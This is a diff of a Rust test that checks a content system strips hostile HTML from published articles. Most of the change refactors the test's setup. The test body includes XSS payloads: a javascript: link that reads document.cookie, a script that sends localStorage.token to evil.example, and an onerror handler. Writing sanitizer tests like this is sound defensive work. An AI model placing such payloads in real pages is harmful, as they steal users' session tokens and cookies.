@@ -102,18 +102,15 @@ async fn content_moves_from_draft_to_approved_to_retracted_and_is_audited(backen
 }
 
 async fn hostile_html_is_stored_defused(backend: Backend) {
-    let db = TestDb::new(backend).await;
-    let server = Server::start(&db).await;
-    let org = server.org("acme").await;
-    let news = server.channel(&org, "news").await;
-    let curator = server
-        .person(&org, "Cora Curator", Role::Curator, "FR", "fr", "Comms")
-        .await;
-    let employee = server
-        .person(&org, "Eve Employee", Role::Employee, "FR", "fr", "Sales")
-        .await;
+    let acme = Acme::new(backend).await;
+    let Acme {
+        news,
+        curator,
+        employee,
+        ..
+    } = &acme;
 
-    let mut new = article(&news, "Totally safe");
+    let mut new = article(news, "Totally safe");
     new.body_html = r#"<p>Read <a href="javascript:alert(document.cookie)">this</a></p>
         <script>fetch('https://evil.example/'+localStorage.token)</script>
         <img src="https://img.example/x.png" onerror="alert(1)">
@@ -123,7 +120,7 @@ async fn hostile_html_is_stored_defused(backend: Backend) {
         .into();
     curator.publish(&new).await;
     let mut replica = Replica::default();
-    replica.sync(&employee, 100).await;
+    replica.sync(employee, 100).await;
     let html = &replica.items.values().next().unwrap().body_html;
     for bad in [
         "<script",
